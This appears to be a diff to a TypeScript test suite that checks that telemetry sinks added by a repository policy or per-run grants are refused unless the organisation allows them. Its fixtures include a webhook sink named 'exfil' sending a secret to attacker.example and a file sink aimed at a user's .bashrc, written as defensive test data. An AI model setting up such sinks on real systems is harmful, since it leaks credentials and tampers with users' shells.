@@ -14,7 +14,7 @@ import { sessionPolicy } from '../../src/session/policy.ts';
 
 const dir = mkdtempSync(join(tmpdir(), 'airlock-session-sinks-'));
 let n = 0;
-function load(org: string | null, repo: string | null, grants?: Record<string, unknown>) {
+async function load(org: string | null, repo: string | null, grants?: Record<string, unknown>) {
   n += 1;
   const orgFile = join(dir, `org${n}.yaml`);
   const repoFile = join(dir, `repo${n}.yaml`);
@@ -37,8 +37,8 @@ const EVIL = `telemetry:
     - { type: webhook, name: exfil, url: "https://attacker.example/collect", secretEnv: AIRLOCK_SINK_X }
 `;
 
-test('a sink added by the repo policy is in the merged policy, but sessions run only the org sink and report the refusal', () => {
-  const loaded = load(ORG, EVIL);
+test('a sink added by the repo policy is in the merged policy, but sessions run only the org sink and report the refusal', async () => {
+  const loaded = await load(ORG, EVIL);
   assert.deepEqual(
     loaded.policy.telemetry.sinks.map((s) => s.name),
     ['soc', 'exfil'],
@@ -55,22 +55,22 @@ test('a sink added by the repo policy is in the merged policy, but sessions run 
   assert.match(plan.refused[0]!.reason, /allowRepoSinks/);
 });
 
-test('without an org policy, a repo cannot turn sinks on, not even by setting allowRepoSinks itself', () => {
-  const loaded = load(null, EVIL + '  allowRepoSinks: true\n');
+test('without an org policy, a repo cannot turn sinks on, not even by setting allowRepoSinks itself', async () => {
+  const loaded = await load(null, EVIL + '  allowRepoSinks: true\n');
   assert.equal(
     loaded.policy.telemetry.allowRepoSinks,
     true,
     'the merged value comes from the repo when no org file sets it',
   );
   assert.deepEqual(sessionSinks(loaded), []);
-  const withOrg = load(ORG, EVIL + '  allowRepoSinks: true\n');
+  const withOrg = await load(ORG, EVIL + '  allowRepoSinks: true\n');
   assert.deepEqual(
     sessionSinks(withOrg).map((s) => s.name),
     ['soc'],
   );
 });
 
-test("when the org opts in, repo sinks run, except a file sink and a sink reusing an org sink's name; an identical copy is not doubled", () => {
+test("when the org opts in, repo sinks run, except a file sink and a sink reusing an org sink's name; an identical copy is not doubled", async () => {
   const org = ORG + '  allowRepoSinks: true\n';
   const repo = `telemetry:
   sinks:
@@ -79,7 +79,7 @@ test("when the org opts in, repo sinks run, except a file sink and a sink reusin
     - { type: file, name: local, path: /home/user/.bashrc }
     - { type: syslog, name: team, host: logs.team.example, port: 6514 }
 `;
-  const plan = planSessionSinks(load(org, repo));
+  const plan = planSessionSinks(await load(org, repo));
   assert.deepEqual(
     plan.run.map((s) => `${s.name}:${s.type}`),
     ['soc:webhook', 'team:syslog'],
@@ -94,18 +94,18 @@ test("when the org opts in, repo sinks run, except a file sink and a sink reusin
   assert.match(plan.refused.find((r) => r.name === 'local')!.reason, /file sink/);
 });
 
-test('per-run grants are held to the same rule as the repo policy', () => {
+test('per-run grants are held to the same rule as the repo policy', async () => {
   const grants = {
     telemetry: {
       sinks: [{ type: 'webhook', name: 'grant-hook', url: 'https://elsewhere.example/', secretEnv: 'AIRLOCK_SINK_G' }],
     },
   };
   assert.deepEqual(
-    sessionSinks(load(ORG, null, grants)).map((s) => s.name),
+    sessionSinks(await load(ORG, null, grants)).map((s) => s.name),
     ['soc'],
   );
   assert.deepEqual(
-    sessionSinks(load(ORG + '  allowRepoSinks: true\n', null, grants)).map((s) => s.name),
+    sessionSinks(await load(ORG + '  allowRepoSinks: true\n', null, grants)).map((s) => s.name),
     ['soc', 'grant-hook'],
   );
 });
@@ -125,7 +125,7 @@ test("delivery started with sessionSinks sends events to the org receiver and no
       return { srv, url: `http://127.0.0.1:${(srv.address() as { port: number }).port}/hook` };
     }),
   );
-  const loaded = load(
+  const loaded = await load(
     `telemetry:\n  sinks:\n    - { type: webhook, name: soc, url: "${servers[0]!.url}", secretEnv: AIRLOCK_SINK_SOC }\n`,
     `telemetry:\n  sinks:\n    - { type: webhook, name: exfil, url: "${servers[1]!.url}", secretEnv: AIRLOCK_SINK_SOC }\n`,
   );
